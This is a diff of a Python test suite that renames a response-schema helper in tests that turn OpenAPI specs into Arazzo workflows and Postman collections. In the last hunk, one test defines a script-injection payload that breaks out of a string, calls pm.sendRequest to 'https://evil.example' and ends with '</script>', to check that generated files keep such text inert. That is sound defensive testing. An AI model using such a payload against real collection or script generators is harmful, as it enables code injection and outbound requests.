@@ -24,7 +24,7 @@ SCHEMES = {
 }
 
 
-def reply(*members: str, **more: Any) -> dict[str, Any]:
+def responses_with(*members: str, **more: Any) -> dict[str, Any]:
     """A success whose body has these members."""
     properties = {name: {"type": "string"} for name in members}
     schema = {"type": "object", "title": "".join(members).title() + "Reply", "properties": properties}
@@ -42,7 +42,7 @@ OPEN = {
     "operationId": "openJob",
     "tags": ["jobs"],
     "requestBody": body(kind={"type": "string", "enum": ["small", "large"]}, note={"type": "string", "example": "Hi."}),
-    "responses": reply(
+    "responses": responses_with(
         "job",
         "authorization_url",
         links={
@@ -56,14 +56,14 @@ ASK = {
     "tags": ["jobs"],
     "parameters": [ID],
     "x-poll": {"status": "/state", "done": ["ready"], "failed": {"lost": "session-expired"}},
-    "responses": reply("state"),
+    "responses": responses_with("state"),
 }
-READ = {"operationId": "readJob", "tags": ["jobs"], "parameters": [ID], "responses": reply("result")}
+READ = {"operationId": "readJob", "tags": ["jobs"], "parameters": [ID], "responses": responses_with("result")}
 LOGIN = {
     "operationId": "logIn",
     "tags": ["access"],
     "security": [{"key": [], "secret": []}],
-    "responses": reply("token"),
+    "responses": responses_with("token"),
 }
 
 
@@ -153,7 +153,7 @@ def test_a_value_of_an_earlier_response_comes_by_its_link() -> None:
         "operationId": "listFiles",
         "tags": ["jobs"],
         "parameters": [ID],
-        "responses": reply(
+        "responses": responses_with(
             "first",
             links={
                 "file": {
@@ -167,13 +167,13 @@ def test_a_value_of_an_earlier_response_comes_by_its_link() -> None:
         "operationId": "readFile",
         "tags": ["jobs"],
         "parameters": [ID, {"name": "name", "in": "query", "required": True, "schema": {"type": "string"}}],
-        "responses": reply("content"),
+        "responses": responses_with("content"),
     }
     links = {
         "files": {"operationId": "listFiles", "parameters": {"id": "$response.body#/job"}},
         "file": {"operationId": "readFile", "parameters": {"id": "$response.body#/job"}},
     }
-    opening = {**OPEN, "responses": reply("job", links=links)}
+    opening = {**OPEN, "responses": responses_with("job", links=links)}
     paths = {"/jobs": {"post": opening}, "/jobs/{id}/files": {"get": listing}, "/jobs/{id}/file": {"get": file}}
     first, second = flows(paths)["openJob-read"]["steps"]
 
@@ -193,13 +193,13 @@ def coded(**link: Any) -> dict[str, Any]:
         "tags": ["jobs"],
         "parameters": [ID],
         "requestBody": body(job_code={"type": "string"}, reference={"type": "string", "x-unique": True}),
-        "responses": reply("taken"),
+        "responses": responses_with("taken"),
     }
     links = {
         "read": {"operationId": "readJob", "parameters": {"id": "$response.body#/job"}},
         "code": {"operationId": "takeCode", "parameters": {"id": "$response.body#/job"}, **link},
     }
-    opening = {**OPEN, "responses": reply("job", links=links)}
+    opening = {**OPEN, "responses": responses_with("job", links=links)}
     return {"/jobs": {"post": opening}, "/jobs/{id}": {"get": READ}, "/jobs/{id}/code": {"post": take}}
 
 
@@ -252,7 +252,7 @@ def test_an_operation_without_an_id_is_named_by_its_path() -> None:
     """Arazzo has a form for that."""
     read = {key: value for key, value in READ.items() if key != "operationId"}
     links = {"read": {"operationRef": "#/paths/~1jobs~1{id}/get", "parameters": {"id": "$response.body#/job"}}}
-    opening = {**OPEN, "responses": reply("job", links=links)}
+    opening = {**OPEN, "responses": responses_with("job", links=links)}
     found = flows({"/jobs": {"post": opening}, "/jobs/{id}": {"get": read}})
 
     assert found["openJob-read"]["steps"][0]["operationPath"] == (
@@ -319,7 +319,7 @@ def test_nothing_that_a_document_says_is_a_script(place: str) -> None:
     """Texts stand in data alone; a name that would end a string of a script does not."""
     hostile = "x\"); pm.sendRequest('https://evil.example'); (\"\u2028</script>"
     opening = {**OPEN, place: "openJob" if place == "operationId" else hostile}
-    opening["responses"] = reply(
+    opening["responses"] = responses_with(
         hostile, links={"read": {"operationId": "readJob", "parameters": {"id": f"$response.body#/{hostile}"}}}
     )
     made = json.loads(files({"/jobs": {"post": opening}, "/jobs/{id}": {"get": READ}})["postman.json"])
